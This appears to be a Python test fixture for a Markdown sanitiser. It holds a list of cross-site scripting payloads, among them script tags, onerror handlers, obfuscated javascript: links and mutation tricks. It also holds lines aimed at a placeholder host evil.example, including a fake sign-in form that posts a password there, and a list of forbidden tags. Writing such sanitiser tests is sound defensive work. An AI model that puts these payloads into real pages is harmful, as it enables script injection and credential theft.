"""Markdown that tries to do harm, and what must never be in what it becomes."""

from html.parser import HTMLParser

HARMFUL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="mantine-Modal-root">x</p>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<!--><img src=x onerror=alert(1)>-->",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    '# Title <img src=x onerror="alert(1)">',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
]
FORBIDDEN_TAGS = [
    "<script", "<iframe", "<svg", "<math", "<base", "<meta", "<form", "<input", "<button", "<link", "<style",
    "<object", "<embed", "<video", "<textarea", "<noscript", "<!--",
]  # fmt: skip


class Seen:
    """Tags and attributes of a piece of HTML, read by a parser that is not the sanitiser's."""

    def __init__(self, markup: str) -> None:
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        parser = HTMLParser()
        parser.handle_starttag = lambda tag, attributes: self.elements.append((tag, attributes))
        parser.feed(markup)

    @property
    def attributes(self) -> list[tuple[str, str | None]]:
        return [pair for _, attributes in self.elements for pair in attributes]
